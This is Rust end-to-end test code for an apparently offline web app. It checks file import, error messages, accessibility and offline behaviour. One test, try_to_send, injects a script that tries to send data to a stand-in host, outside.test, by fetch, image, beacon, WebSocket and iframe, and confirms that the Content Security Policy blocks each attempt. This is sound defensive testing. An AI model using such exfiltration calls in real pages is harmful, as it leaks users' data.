fn take_what_can_be_read(page: &Page<'_>, browser: Browser, files: &DroppedFiles) {
    if browser == Browser::Chromium {
        // The only one whose driver drops a folder; the others get its files.
        page.drop_folder(&files.folder);
    } else {
        let all: Vec<_> = files.bundled.iter().take(10).chain(&files.unreadable).cloned().collect();
        page.drop_files(&all);
    }
    page.see_value("ten transcripts are there", "all('.docs .doc').length", 10);
    page.see_value("four sentences say what is wrong", "all('.message.problem').length", 4);
    for path in &files.unreadable {
        let name = path.file_name().expect("a file has a name").to_string_lossy().into_owned();
        let sentence =
            format!("all('.message.problem').map(text).find((sentence) => sentence.includes({}))", quoted(&name));
        page.see(
            &format!("one of them names {name}, and says more than the name"),
            &format!("({sentence}).length > {} + 20", name.len()),
        );
    }
    page.see("the import has ended", "!one('.import')");
    sound(page, "messages");
    page.click("the way to take the sentences away", "named('Dismiss all')");
    page.see("they are gone", "!seen('.message')");
    page.see("the ten are kept", "/^10 files kept/.test(text(one('.kept')))");
    page.reload();
    page.see_value("after a reload the ten are still there", "all('.docs .doc').length", 10);
    page.expect("and nobody complains of the others again", "!seen('.message')");
}

/// What holds for every view: all controls have names, ids are unique, pictures are told or hidden.
pub fn sound(page: &Page<'_>, view: &str) {
    let nameless = "all('button, a[href], input, select, textarea').filter((node) => isSeen(node) && !node.closest('[aria-hidden=true]'))\
        .filter((node) => !text(node) && !node.getAttribute('aria-label') && !(node.labels && node.labels.length)).map((node) => node.outerHTML)";
    page.see_value(&format!("{view}: every control has a name"), nameless, json!([]));
    let double = "all('[id]').map((node) => node.id).filter((id, at, ids) => ids.indexOf(id) !== at)";
    page.see_value(&format!("{view}: no id stands twice"), double, json!([]));
    let pictures = "all('img:not([alt]), svg').filter((node) => isSeen(node) && node.tagName !== 'IMG' \
        && !node.closest('[aria-hidden=true]') && !node.getAttribute('aria-label')).map((node) => node.outerHTML)";
    page.see_value(&format!("{view}: pictures are named or hidden"), pictures, json!([]));
    let landmarks = "[all('main').length, all('h1').filter(isSeen).length > 0]";
    page.see_value(&format!("{view}: there is one main part, with a heading"), landmarks, json!([1, true]));
}

/// The network is cut, the page reloaded, and all of it again.
pub fn cut_the_network(page: &Page<'_>, server: &mut Files, files: &DroppedFiles) {
    page.see("the service worker has taken charge", "navigator.serviceWorker.controller");
    server.cut();
    page.reload();
    begin(page);
    read_pdfs(page, files);
    remove_all(page);
    begin(page);
    read_filter_and_compare(page, files);
    page.expect_calm();
}

/// Even a script in the page gets nothing out: the policy stands in its way, and whoever watches sees it. This leaves
/// the page with its errors and must come last.
pub fn try_to_send(page: &Page<'_>) {
    page.expect_calm();
    page.tell(
        "(() => { fetch('http://outside.test/fetched').catch(() => 0); new Image().src = 'http://outside.test/picture'; \
         navigator.sendBeacon('http://outside.test/beacon', 'words'); \
         try { new WebSocket('ws://outside.test/socket'); } catch { /* Refused at once. */ } \
         const frame = document.createElement('iframe'); frame.src = 'http://outside.test/frame'; document.body.append(frame); })()",
    );
    for kind in ["connect-src", "img-src", "frame-src"] {
        page.see(
            &format!("the policy refuses what goes out by {kind}"),
            &format!("window.watched.wrong.some((what) => /^policy: /.test(what) && what.includes('{kind}'))"),
        );
    }
}
